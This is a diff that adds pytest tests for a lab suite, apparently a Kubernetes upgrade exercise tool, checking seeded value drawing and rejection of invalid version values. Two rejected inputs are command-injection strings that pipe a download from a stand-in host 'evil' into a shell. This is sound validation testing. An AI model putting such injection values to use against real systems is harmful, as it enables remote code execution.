@@ -134,6 +134,46 @@ def test_other_versions_take_the_place_of_the_labs(upgrading: Lab) -> None:
     assert upgrading.with_upgrade(None) is upgrading
 
 
+@pytest.mark.parametrize("lab_id", suite().lab_ids())
+def test_what_a_lab_draws_it_can_have_drawn(lab_id: str) -> None:
+    """Of every lab of the suite, with its seed; and with another one only by chance."""
+    lab = load_lab(suite().lab_dir(lab_id))
+    for seed in (0, 1, 7, -1, 10**9):
+        drawn = lab.draw(seed)
+        assert lab.why_not_drawn(drawn, seed) == lab.why_not_drawn(drawn) == ""
+        other = "" if drawn == lab.draw(seed + 1) else "its seed draws other values"
+        assert lab.why_not_drawn(drawn, seed + 1) == other
+
+
+def test_any_upgrade_may_be_that_of_an_attempt(upgrading: Lab) -> None:
+    """`dojo start --from --to` takes other versions than the lab's."""
+    other = Upgrade.model_validate({"from": "1.33.4", "to": "1.34.4"})
+    assert upgrading.why_not_drawn(upgrading.with_upgrade(other).draw(7), 7) == ""
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"to_version": "1.35.4; curl evil | sh"},
+        {"to_version": "1.35.4\n"},
+        {"to_version": "1.36.4"},
+        {"to_version": "1.35." + "4" * 5000},
+        {"to_version": 1},
+        {"to_minor": "$(curl evil)"},
+        {"from_minor": "1.33"},
+    ],
+)
+def test_versions_that_are_no_upgrade_can_not_be_drawn(
+    upgrading: Lab, changed: dict[str, Drawn]
+) -> None:
+    """They stand in commands like any other value."""
+    drawn = upgrading.draw(7)
+    assert upgrading.why_not_drawn(drawn | changed) == (
+        "its Kubernetes versions are not an upgrade by one minor version"
+    )
+    assert upgrading.why_not_drawn({n: v for n, v in drawn.items() if n not in changed})
+
+
 @pytest.mark.parametrize(
     ("old", "new"),
     [("1.33.2", "1.35.4"), ("1.35.4", "1.34.4"), ("1.34.4", "1.34.5"), ("1.35.0", "2.36.0")],
